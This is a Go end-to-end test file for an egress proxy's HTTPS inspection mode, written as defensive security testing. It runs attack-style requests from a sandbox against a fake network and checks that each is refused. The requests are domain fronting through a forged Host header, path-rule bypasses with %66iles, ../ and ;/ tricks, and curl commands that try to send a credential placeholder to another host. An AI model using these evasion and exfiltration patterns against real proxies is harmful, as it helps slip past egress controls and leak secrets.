package e2e

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/e2e/fakenet"
)

// Issue #12, "Done when": opt-in HTTPS inspection, attacked from inside a
// launcher sandbox in the fake internet with ordinary clients that are
// given no TLS flag (the sandbox trusts its own inspection CA), and scored
// on what the world's servers saw. allowed.test, blocked.test and
// api.model.test are served by one front end (203.0.113.10), which
// presents any name it is asked for.
func TestInspection(t *testing.T) {
	fakenet.RequireRoot(t)
	launcherBinary(t)
	if left := launcherLeftovers(t); len(left) > 0 {
		t.Fatalf("leftovers before the inspection tests ran (not ours; refusing to judge): %v", left)
	}
	t.Run("group", func(t *testing.T) {
		for _, tc := range []struct {
			name string
			fn   func(t *testing.T)
		}{
			{"FrontedHostInsideAllowedTLSIsRefused", testInspectFrontedHostRefused},
			{"PathRuleAllowsMessagesRefusesFiles", testInspectPathRules},
			{"MethodRuleRefusesDelete", testInspectMethodRule},
			{"ServerSentEventsArriveIncrementally", testInspectSSE},
			{"InjectedKeyReachesAPISandboxHoldsOnlyPlaceholder", testInspectCredential},
			{"PlaceholderSentToAnotherHostIsRefused", testInspectPlaceholderElsewhere},
			{"SecretEscapedInJSONIsMasked", testInspectSecretEscapedInJSON},
			{"CredentialNeverSentToAnAddressOutsideTheNamesResolution", testInspectCredentialViaIPConnect},
			{"PipGitNpmCurlWorkWithoutFlags", testInspectTools},
		} {
			t.Run(tc.name, func(t *testing.T) {
				t.Parallel()
				tc.fn(t)
			})
		}
	})
	if left := launcherLeftovers(t); len(left) > 0 {
		t.Errorf("the inspection tests left behind: %v", left)
	}
}

// inspectWorld is a launcher world where api.model.test and the package
// hosts live on the front end, with a policy file in the workspace.
func inspectWorld(t *testing.T, policy string) *lworld {
	t.Helper()
	lw := newLauncherWorld(t)
	for _, n := range []string{"api.model.test", "other-api.test", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "git.test"} {
		lw.w.SetRecords(n, fakenet.A("203.0.113.10"))
	}
	if policy != "" {
		if err := os.WriteFile(filepath.Join(lw.ws, "inspect.toml"), []byte(policy), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return lw
}

// runInspect runs the launcher with the workspace's policy and egressd
// trusting the world's CA upstream.
func (lw *lworld) runInspect(o lopts, args ...string) lresult {
	lw.t.Helper()
	full := []string{"--inspect-upstream-ca", lw.w.CAFile()}
	if _, err := os.Stat(filepath.Join(lw.ws, "inspect.toml")); err == nil {
		full = append(full, "--policy", "inspect.toml")
	}
	return lw.runWith(o, append(full, args...)...)
}

// curlNoFlags is curl as a user would run it: no CA, no proxy flag.
const curlNoFlags = "curl -sS --max-time 10"

// THREATS A2: inside the TLS session of an allowed name (SNI and CONNECT
// honest), a request for another site of the same front end is refused:
// through the explicit proxy, transparently, and after an allowed request
// on a kept-alive connection (A7). Without inspection the same request
// reaches the forbidden site — the residual this mode closes.
func testInspectFrontedHostRefused(t *testing.T) {
	script := curlNoFlags + ` https://allowed.test/ok; echo; ` +
		curlNoFlags + ` -o /dev/null -w 'proxied=%{http_code}\n' -H 'Host: blocked.test' https://allowed.test/fronted-proxied; ` +
		curlNoFlags + ` --noproxy '*' -o /dev/null -w 'direct=%{http_code}\n' -H 'Host: blocked.test' https://allowed.test/fronted-direct; ` +
		sandboxPython + ` -c '
import http.client, ssl
c = http.client.HTTPSConnection("allowed.test", context=ssl.create_default_context(), timeout=10)
c.request("GET", "/first"); r = c.getresponse(); r.read(); print("first=%d" % r.status)
c.request("GET", "/second", headers={"Host": "blocked.test"}); r = c.getresponse(); r.read(); print("keepalive=%d" % r.status)
'`
	lw := inspectWorld(t, "")
	r := lw.runInspect(lopts{}, "--allow", "allowed.test", "--inspect", "allowed.test", "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	if reps := replies(r.stdout); len(reps) != 1 || reps[0].Host != "allowed.test" || reps[0].SNI != "allowed.test" {
		t.Errorf("the allowed request: %+v\n%s", reps, r)
	}
	for _, m := range []string{"proxied", "direct", "keepalive"} {
		if v := marker(r.stdout, m); v != "421" {
			t.Errorf("%s fronted request: status %q, want 421\n%s", m, v, r)
		}
	}
	if marker(r.stdout, "first") != "200" {
		t.Errorf("the first request on the kept-alive connection: %q\n%s", marker(r.stdout, "first"), r)
	}
	if n := lw.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("the world served %d requests for blocked.test", n)
	}
	var denied int
	for _, a := range r.audit {
		if a.Kind == "https" && a.Decision == "deny" && a.Reason == "host-mismatch" {
			denied++
		}
	}
	if denied != 3 {
		t.Errorf("%d https host-mismatch denials audited, want 3: %+v", denied, r.audit)
	}

	// The same request without inspection: the front end serves blocked.test.
	lw2 := inspectWorld(t, "")
	r2 := lw2.run("--allow", "allowed.test", "--", "sh", "-c",
		curlArgs+` -o /dev/null -w 'proxied=%{http_code}\n' -H 'Host: blocked.test' https://allowed.test/fronted-proxied`)
	if marker(r2.stdout, "proxied") != "200" || lw2.w.HTTPRequests("blocked.test") != 1 {
		t.Errorf("uninspected control: want the fronted request to reach blocked.test (the residual), got %q and %d requests\n%s",
			marker(r2.stdout, "proxied"), lw2.w.HTTPRequests("blocked.test"), r2)
	}
}

const modelPolicy = `version = 1
[network]
allow = ["api.model.test"]

[[network.inspect]]
host = "api.model.test"
paths = ["/v1/messages"]
block_methods = ["DELETE"]
`

// THREATS H1: a path rule lets an agent call /v1/messages and nothing else
// of the API — whatever the spelling of the path.
func testInspectPathRules(t *testing.T) {
	lw := inspectWorld(t, modelPolicy)
	code := func(name, args string) string {
		return curlNoFlags + ` -o /dev/null -w '` + name + `=%{http_code}\n' ` + args + `; `
	}
	r := lw.runInspect(lopts{}, "--", "sh", "-c",
		curlNoFlags+` -X POST -d '{}' https://api.model.test/v1/messages; echo; `+
			code("files", "https://api.model.test/v1/files")+
			code("escaped", "--path-as-is https://api.model.test/v1/%66iles")+
			code("dotdot", "--path-as-is https://api.model.test/v1/messages/../files")+
			code("semicolon", "--path-as-is 'https://api.model.test/v1/messages;/../files'")+
			curlNoFlags+` -sS -D - -o /dev/null https://api.model.test/v1/files | tr -d '\r' | grep -i '^x-egressd-denied' | sed 's/^/header=/'`)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	if reps := replies(r.stdout); len(reps) != 1 || reps[0].URI != "/v1/messages" || reps[0].Method != "POST" {
		t.Errorf("POST /v1/messages: %+v\n%s", reps, r)
	}
	for m, want := range map[string]string{"files": "403", "escaped": "403", "dotdot": "400", "semicolon": "400"} {
		if v := marker(r.stdout, m); v != want {
			t.Errorf("%s: status %q, want %s\n%s", m, v, want, r)
		}
	}
	if h := marker(r.stdout, "header"); !strings.Contains(h, `no-allow-rule paths ["/v1/messages"]`) || !strings.Contains(h, "inspect.toml:") {
		t.Errorf("the denial does not name the rule and where its author wrote it (not egressd's snapshot): %q", h)
	}
	for _, req := range lw.w.HTTPLog() {
		if req.URI != "/v1/messages" {
			t.Errorf("the world saw %s %s", req.Method, req.URI)
		}
	}
	for _, a := range r.audit {
		if a.Kind == "https" && a.Decision == "deny" && !strings.Contains(a.Source, "inspect.toml") && a.Reason == "no-allow-rule" {
			t.Errorf("audit record %+v does not name the policy file", a)
		}
	}
	if !strings.Contains(r.stderr, "denied GET api.model.test:443/v1/files") {
		t.Errorf("the launcher's summary does not name the refused request\n%s", r.stderr)
	}
}

// A method rule refuses DELETE; the world never sees one.
func testInspectMethodRule(t *testing.T) {
	lw := inspectWorld(t, modelPolicy)
	r := lw.runInspect(lopts{}, "--", "sh", "-c",
		curlNoFlags+` -o /dev/null -w 'delete=%{http_code}\n' -X DELETE https://api.model.test/v1/messages; `+
			curlNoFlags+` -o /dev/null -w 'lower=%{http_code}\n' -X delete https://api.model.test/v1/messages; `+
			curlNoFlags+` -o /dev/null -w 'get=%{http_code}\n' https://api.model.test/v1/messages`)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	if marker(r.stdout, "delete") != "403" || marker(r.stdout, "lower") != "403" || marker(r.stdout, "get") != "200" {
		t.Errorf("want DELETE and delete 403, GET 200\n%s", r)
	}
	for _, req := range lw.w.HTTPLog() {
		if strings.EqualFold(req.Method, "DELETE") {
			t.Errorf("the world saw %s %s", req.Method, req.URI)
		}
	}
}

// Server-sent events (what the model APIs stream) arrive through the mode
// as they are sent: the time to the first event is a fraction of the
// stream's length.
func testInspectSSE(t *testing.T) {
	lw := inspectWorld(t, "")
	r := lw.runInspect(lopts{}, "--allow", "api.model.test", "--inspect", "api.model.test", "--", "sh", "-c",
		`start=$(date +%s%N); `+curlNoFlags+` -N 'https://api.model.test/sse?n=5&every=400ms' | while IFS= read -r l; do `+
			`[ -n "$l" ] && echo "at=$(( ($(date +%s%N) - start) / 1000000 )) $l"; done; true`)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	var at []int
	for _, line := range strings.Split(r.stdout, "\n") {
		if v, ok := strings.CutPrefix(line, "at="); ok {
			ms, _, _ := strings.Cut(v, " ")
			n, err := strconv.Atoi(ms)
			if err != nil {
				t.Fatalf("line %q", line)
			}
			at = append(at, n)
		}
	}
	if len(at) != 5 {
		t.Fatalf("got %d events, want 5\n%s", len(at), r)
	}
	t.Logf("time to first event %d ms, last at %d ms (events sent 400 ms apart)", at[0], at[4])
	if at[4]-at[0] < 1200 || at[0] > at[4]-1200 {
		t.Errorf("events at %v ms: they arrived together, not as sent", at)
	}
	for _, a := range r.audit {
		if a.Kind == "https" && a.Decision != "allow" {
			t.Errorf("audit %+v", a)
		}
	}
}

const credentialPolicy = `version = 1
[network]
allow = ["api.model.test", "other-api.test"]

[[network.inspect]]
host = "api.model.test"

[[network.inspect]]
host = "other-api.test"

[[network.credentials]]
host = "api.model.test"
header = "x-api-key"
secret = "MODEL_KEY"
`

func randomSecret(t *testing.T) string {
	b := make([]byte, 16)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return "sk-e2e-" + hex.EncodeToString(b)
}

// The key egressd holds reaches the API in the configured header; the
// sandbox's environment, /proc/self/environ and every file it can read
// hold only the placeholder, and the key the API reflects comes back
// masked.
func testInspectCredential(t *testing.T) {
	secret, token := randomSecret(t), randomSecret(t)
	lw := inspectWorld(t, credentialPolicy)
	ready := filepath.Join(lw.ws, "ready")
	scanned := filepath.Join(lw.ws, "scanned")
	done := make(chan error, 1)
	go func() { done <- scanSandboxForSecret(t, "E2E_SCAN="+token, ready, scanned, secret) }()
	r := lw.runInspect(lopts{env: []string{"MODEL_KEY=" + secret}}, "--secret-env", "MODEL_KEY", "--env", "E2E_SCAN="+token, "--", "sh", "-c",
		`echo "env=$(env | grep '^MODEL_KEY=')"; `+
			`echo "proc=$(cat /proc/self/environ | tr '\0' '\n' | grep '^MODEL_KEY=')"; `+
			`echo "reply=$(`+curlNoFlags+` -X POST -H "x-api-key: $MODEL_KEY" -d '{}' https://api.model.test/v1/messages | base64 -w0)"; `+
			`test -e /run/egressd-launcher || echo statedir=hidden; touch /sandbox/ready; i=0; while [ ! -e /sandbox/scanned ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done`)
	if err := <-done; err != nil {
		t.Errorf("scanning the sandbox's files: %v", err)
	}
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	want := "MODEL_KEY=egressd-placeholder-MODEL_KEY"
	if marker(r.stdout, "env") != want || marker(r.stdout, "proc") != want {
		t.Errorf("the sandbox's environment: env %q, /proc/self/environ %q; want %q\n%s", marker(r.stdout, "env"), marker(r.stdout, "proc"), want, r)
	}
	if marker(r.stdout, "statedir") != "hidden" {
		t.Errorf("the sandbox sees the launcher's state directory\n%s", r)
	}
	if strings.Contains(r.stdout, "***") {
		t.Errorf("the launcher masked something: the secret reached the sandbox's output\n%s", r)
	}
	reply, err := base64.StdEncoding.DecodeString(marker(r.stdout, "reply"))
	if err != nil {
		t.Fatalf("reply: %v\n%s", err, r)
	}
	rep, err := fakenet.ParseReply(bytes.TrimSpace(reply))
	if err != nil {
		t.Fatal(err)
	}
	if got := rep.Header.Get("X-Api-Key"); got != strings.Repeat("*", len(secret)) {
		t.Errorf("the API's reflection of the key reached the sandbox as %q, want it masked", got)
	}
	if seen := lw.apiKeySeen("/v1/messages"); seen != secret {
		t.Errorf("the API got x-api-key %q, want the secret", seen)
	}
	for _, a := range r.audit {
		if strings.Contains(fmt.Sprint(a), secret) {
			t.Errorf("the secret is in the audit log: %+v", a)
		}
	}
}

// apiKeySeen is the x-api-key of the last request for uri the world saw.
func (lw *lworld) apiKeySeen(uri string) string {
	var seen string
	for _, req := range lw.w.HTTPLog() {
		if req.URI == uri {
			seen = req.Header.Get("X-Api-Key")
		}
	}
	return seen
}

// scanSandboxForSecret waits for the sandbox to signal ready, finds its
// processes by a variable only they have, and searches for secret in
// their environments, in every file of the container's own mounts
// (workspace, tmpfs, generated /etc files, the trust bundle, /run, ...)
// and /etc from inside its mount namespace, and in the overlay's upper
// layer (anything written over the host's files). The rest of the view is
// the host's root file system as the lower layer; the secret, made by
// this test, was only ever written to egressd's file in the launcher's
// state directory under /run, a separate tmpfs that is not part of that
// layer (the script checks it cannot see it). Then it lets the sandbox
// finish.
func scanSandboxForSecret(t *testing.T, marker, ready, scanned, secret string) error {
	defer os.WriteFile(scanned, nil, 0o644)
	deadline := time.Now().Add(60 * time.Second)
	for {
		if _, err := os.Stat(ready); err == nil {
			break
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("the sandbox never said ready")
		}
		time.Sleep(50 * time.Millisecond)
	}
	var pids []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		env, err := os.ReadFile(filepath.Join("/proc", e.Name(), "environ"))
		if err == nil && bytes.Contains(env, []byte(marker)) {
			pids = append(pids, e.Name())
			if bytes.Contains(env, []byte(secret)) {
				return fmt.Errorf("process %s of the sandbox has the secret in its environment", e.Name())
			}
		}
	}
	if len(pids) == 0 {
		return fmt.Errorf("no sandbox process found")
	}
	pid := pids[0]
	mi, err := os.ReadFile(filepath.Join("/proc", pid, "mountinfo"))
	if err != nil {
		return err
	}
	var upper string
	var roots []string
	for _, line := range strings.Split(string(mi), "\n") {
		f := strings.Fields(line)
		if len(f) < 10 {
			continue
		}
		mnt := f[4]
		sep := 6
		for sep < len(f) && f[sep] != "-" {
			sep++
		}
		if sep+3 >= len(f) {
			continue
		}
		fstype, opts := f[sep+1], f[sep+3]
		if mnt == "/" && fstype == "overlay" {
			for _, o := range strings.Split(opts, ",") {
				if v, ok := strings.CutPrefix(o, "upperdir="); ok {
					upper = v
				}
			}
			continue
		}
		if mnt == "/" || strings.HasPrefix(mnt, "/proc") || strings.HasPrefix(mnt, "/sys") || fstype == "devpts" || fstype == "mqueue" || fstype == "cgroup" || fstype == "cgroup2" {
			continue
		}
		roots = append(roots, mnt)
	}
	roots = append(roots, "/etc")
	args := append([]string{"--mount=/proc/" + pid + "/ns/mnt", "--", "grep", "-rlsF", "-D", "skip", "-e", secret}, roots...)
	start := time.Now()
	out, _ := exec.Command("nsenter", args...).Output()
	var host []byte
	if upper != "" {
		// An overlay root (--rootfs): what the sandbox wrote is in its
		// upper layer; the lower layer is the image, never written.
		host, _ = exec.Command("grep", "-rlsF", "-D", "skip", "-e", secret, upper).Output()
	} else {
		// The host view: the root is the sandbox's own tmpfs; the host
		// directories on it are separate mounts, scanned above.
		host, _ = exec.Command("nsenter", "--mount=/proc/"+pid+"/ns/mnt", "--", "sh", "-c",
			`find / -xdev -type f -print0 | xargs -0 -r grep -lsF -D skip -e "$1"`, "scan", secret).Output()
	}
	t.Logf("scanned %d mounts and the root in %v", len(roots), time.Since(start).Round(time.Millisecond))
	if found := strings.TrimSpace(string(out) + string(host)); found != "" {
		return fmt.Errorf("files the sandbox can read hold the secret:\n%s", found)
	}
	return nil
}

// The placeholder is worthless elsewhere, and sending it elsewhere is
// refused and audited: to another inspected host, and in plain HTTP.
func testInspectPlaceholderElsewhere(t *testing.T) {
	secret := randomSecret(t)
	lw := inspectWorld(t, credentialPolicy)
	r := lw.runInspect(lopts{env: []string{"MODEL_KEY=" + secret}}, "--secret-env", "MODEL_KEY", "--allow", "allowed.test:80", "--", "sh", "-c",
		curlNoFlags+` -o /dev/null -w 'other=%{http_code}\n' -H "Authorization: Bearer $MODEL_KEY" https://other-api.test/upload; `+
			curlNoFlags+` -o /dev/null -w 'query=%{http_code}\n' "https://other-api.test/upload?key=$MODEL_KEY"; `+
			curlNoFlags+` -o /dev/null -w 'plain=%{http_code}\n' -H "x-api-key: $MODEL_KEY" http://allowed.test/upload; `+
			curlNoFlags+` -o /dev/null -w 'own=%{http_code}\n' -H "x-api-key: $MODEL_KEY" https://api.model.test/v1/messages`)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	for _, m := range []string{"other", "query", "plain"} {
		if v := marker(r.stdout, m); v != "403" {
			t.Errorf("%s: status %q, want 403\n%s", m, v, r)
		}
	}
	if marker(r.stdout, "own") != "200" {
		t.Errorf("the placeholder to its own host: %q\n%s", marker(r.stdout, "own"), r)
	}
	for _, h := range []string{"other-api.test", "allowed.test"} {
		if n := lw.w.HTTPRequests(h); n != 0 {
			t.Errorf("the world served %d requests for %s", n, h)
		}
	}
	var audited int
	for _, a := range r.audit {
		if a.Decision == "deny" && a.Reason == "credential-placeholder" {
			audited++
		}
	}
	if audited != 3 {
		t.Errorf("%d credential-placeholder denials audited, want 3: %+v", audited, r.audit)
	}
}

// Attack review 1, W2: a key with characters JSON escapes (& < >) comes
// back from the API in its JSON-escaped form (the world's echo is Go's
// encoding/json: \u0026 \u003c \u003e); the sandbox reads only stars.
func testInspectSecretEscapedInJSON(t *testing.T) {
	secret := "sk-rev&iew<" + randomSecret(t) + ">abcd"
	lw := inspectWorld(t, credentialPolicy)
	r := lw.runInspect(lopts{env: []string{"MODEL_KEY=" + secret}}, "--secret-env", "MODEL_KEY", "--", "sh", "-c",
		`echo "reply=$(`+curlNoFlags+` -X POST -H "x-api-key: $MODEL_KEY" -d '{}' https://api.model.test/v1/messages | base64 -w0)"`)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	reply, err := base64.StdEncoding.DecodeString(marker(r.stdout, "reply"))
	if err != nil {
		t.Fatalf("reply: %v\n%s", err, r)
	}
	escaped, _ := json.Marshal(secret)
	for _, form := range []string{secret, strings.Trim(string(escaped), `"`), url.QueryEscape(secret)} {
		if bytes.Contains(reply, []byte(form)) {
			t.Errorf("the API's reflection of the key reached the sandbox as %q:\n%s", form, reply)
		}
	}
	rep, err := fakenet.ParseReply(bytes.TrimSpace(reply))
	if err != nil {
		t.Fatalf("%v: %s", err, reply)
	}
	if got := rep.Header.Get("X-Api-Key"); got == "" || strings.Trim(got, "*") != "" {
		t.Errorf("the sandbox read the reflected key as %q, want only stars", got)
	}
	if seen := lw.apiKeySeen("/v1/messages"); seen != secret {
		t.Errorf("the API got x-api-key %q, want the secret", seen)
	}
}

// Attack review 1, W4: a CONNECT to an address an allow IP rule admits
// (198.51.100.10, which also serves api.model.test's certificate), with
// the SNI of the credential's host, does not deliver the request or the
// key there: egressd sends it to the name's own address (203.0.113.10).
func testInspectCredentialViaIPConnect(t *testing.T) {
	secret := randomSecret(t)
	lw := inspectWorld(t, `version = 1
[network]
allow = ["api.model.test", "198.51.100.10"]

[[network.inspect]]
host = "api.model.test"

[[network.credentials]]
host = "api.model.test"
header = "x-api-key"
secret = "MODEL_KEY"
`)
	script := sandboxPython + ` -c '
import os, socket, ssl
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT 198.51.100.10:443 HTTP/1.1\r\nHost: 198.51.100.10:443\r\n\r\n")
print("connect=" + s.recv(200).split(b"\r\n")[0].decode())
t = ssl.create_default_context().wrap_socket(s, server_hostname="api.model.test")
t.sendall(b"GET /ip-credential HTTP/1.1\r\nHost: api.model.test\r\nx-api-key: " + os.environ["MODEL_KEY"].encode() + b"\r\nConnection: close\r\n\r\n")
d = b""
while True:
    x = t.recv(4096)
    if not x:
        break
    d += x
print("status=" + d.split(b"\r\n")[0].decode())
'`
	r := lw.runInspect(lopts{env: []string{"MODEL_KEY=" + secret}}, "--secret-env", "MODEL_KEY", "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	if marker(r.stdout, "status") != "HTTP/1.1 200 OK" {
		t.Errorf("the request through the IP CONNECT: %q, want it served by api.model.test's own address\n%s", marker(r.stdout, "status"), r)
	}
	var atName int
	for _, req := range lw.w.HTTPLog() {
		if req.Local.Addr() == fakenet.Host4b {
			t.Errorf("198.51.100.10, outside api.model.test's resolution, got %s %s with x-api-key %q", req.Method, req.URI, req.Header.Get("X-Api-Key"))
		}
		if req.URI == "/ip-credential" && req.Local.Addr() == fakenet.Host4 && req.Header.Get("X-Api-Key") == secret {
			atName++
		}
	}
	if atName != 1 {
		t.Errorf("api.model.test's own address got %d requests with the key, want 1: %+v", atName, lw.w.HTTPLog())
	}
}

// pip, git, npm and curl, as their users run them (no CA, proxy or trust
// flag), work against inspected hosts: the sandbox trusts its CA through
// the system bundle it sees and the variables those tools read.
func testInspectTools(t *testing.T) {
	lw := inspectWorld(t, "")
	var tools []string
	script := "cd /tmp; "
	if _, err := os.Stat("/usr/bin/pip3"); err == nil {
		tools = append(tools, "pip")
		script += `python3 -m pip download -q egressd-probe && ls egressd_probe-1.0.0-py3-none-any.whl && echo pip=ok; `
	}
	if _, err := exec.LookPath("git"); err == nil {
		tools = append(tools, "git")
		script += `git clone -q https://git.test` + fakenet.ProbeRepo + ` probe && grep -q probe probe/README && echo git=ok; `
	}
	if _, err := exec.LookPath("npm"); err == nil {
		tools = append(tools, "npm")
		script += `mkdir -p n && cd n && npm install --loglevel=error egressd-probe >/dev/null && test -f node_modules/egressd-probe/index.js && echo npm=ok; cd /tmp; `
	}
	tools = append(tools, "curl")
	script += curlNoFlags + ` -o /dev/null -w 'curl=%{http_code}\n' https://api.model.test/v1/messages`
	t.Logf("tools tested: %v", tools)
	r := lw.runInspect(lopts{}, "--allow", "pypi.org", "--allow", "files.pythonhosted.org", "--allow", "registry.npmjs.org", "--allow", "git.test",
		"--allow", "api.model.test", "--inspect", "pypi.org", "--inspect", "files.pythonhosted.org", "--inspect", "registry.npmjs.org",
		"--inspect", "git.test", "--inspect", "api.model.test", "--", "sh", "-c", script)
	for _, tool := range tools {
		want := "ok"
		if tool == "curl" {
			want = "200"
		}
		if v := marker(r.stdout, tool); v != want {
			t.Errorf("%s: %q, want %s\n%s", tool, v, want, r)
		}
	}
	inspected := map[string]bool{}
	for _, a := range r.audit {
		if a.Kind == "https" && a.Decision == "allow" {
			inspected[a.Target] = true
		}
	}
	for _, h := range []string{"pypi.org", "git.test", "registry.npmjs.org", "api.model.test"} {
		if (h == "pypi.org" && !slices.Contains(tools, "pip")) || (h == "git.test" && !slices.Contains(tools, "git")) || (h == "registry.npmjs.org" && !slices.Contains(tools, "npm")) {
			continue
		}
		if !inspected[h] {
			t.Errorf("no inspected request to %s was audited: %+v", h, r.audit)
		}
	}
}

// The sidecar (egressd serve, as in a pod): it makes its CA where it is
// told (the workload is given the certificate, never the key), holds the
// key from a secret file, and enforces the same rules on the explicit and
// the transparent path.
func TestSidecarInspectsWithItsOwnCAAndSecretFile(t *testing.T) {
	t.Parallel()
	secret := randomSecret(t)
	dir := t.TempDir()
	caCert, caKey, secretFile := filepath.Join(dir, "ca.pem"), filepath.Join(dir, "ca.key"), filepath.Join(dir, "model.key")
	if err := os.WriteFile(secretFile, []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	w := fakenet.Start(t)
	setRecords(w)
	s := w.NewSandbox(t)
	e := startEgressd(t, w, s, `version = 1
profile = "strict"
[network]
allow = ["allowed.test"]
[[network.inspect]]
host = "allowed.test"
block_paths = ["/v1/files"]
[[network.credentials]]
host = "allowed.test"
header = "x-api-key"
secret = "MODEL_KEY"
`, "--inspect-ca-cert", caCert, "--inspect-ca-key", caKey, "--inspect-upstream-ca", w.CAFile(), "--secret-file", "MODEL_KEY="+secretFile)
	if st, err := os.Stat(caKey); err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("the CA key egressd made: %v, %v", st, err)
	}
	curl := func(args ...string) result {
		return run(t, s, "", "curl", append([]string{"-sS", "--max-time", "5", "--cacert", caCert}, args...)...)
	}
	for _, path := range []struct {
		name string
		args []string
	}{
		{"explicit", []string{"-x", proxyURL}},
		{"transparent", nil},
	} {
		r := curl(append(path.args, "-H", "x-api-key: egressd-placeholder-MODEL_KEY", "https://allowed.test/v1/messages")...)
		rep, err := fakenet.ParseReply([]byte(r.stdout))
		if err != nil {
			t.Fatalf("%s: %v\n%s", path.name, err, r)
		}
		if got := rep.Header.Get("X-Api-Key"); got != strings.Repeat("*", len(secret)) {
			t.Errorf("%s: the reflected key reached the client as %q", path.name, got)
		}
		r = curl(append(path.args, "-o", "/dev/null", "-w", "%{http_code}", "https://allowed.test/v1/files")...)
		if r.stdout != "403" {
			t.Errorf("%s: /v1/files: %q, want 403", path.name, r.stdout)
		}
		r = curl(append(path.args, "-o", "/dev/null", "-w", "%{http_code}", "-H", "Host: blocked.test", "https://allowed.test/")...)
		if r.stdout != "421" {
			t.Errorf("%s: fronted Host: %q, want 421", path.name, r.stdout)
		}
	}
	var keys int
	for _, req := range w.HTTPLog() {
		if req.Header.Get("X-Api-Key") == secret {
			keys++
		}
		if req.URI == "/v1/files" || canonicalHost(req.Host) == "blocked.test" {
			t.Errorf("the world saw %s %s for %s", req.Method, req.URI, req.Host)
		}
	}
	if keys != 2 {
		t.Errorf("the world got the key on %d requests, want 2", keys)
	}
	if strings.Contains(e.auditText(), secret) {
		t.Error("the secret is in the audit log")
	}
}

// canonicalHost drops a Host header's port.
func canonicalHost(h string) string {
	host, _, ok := strings.Cut(h, ":")
	if !ok {
		return h
	}
	return host
}
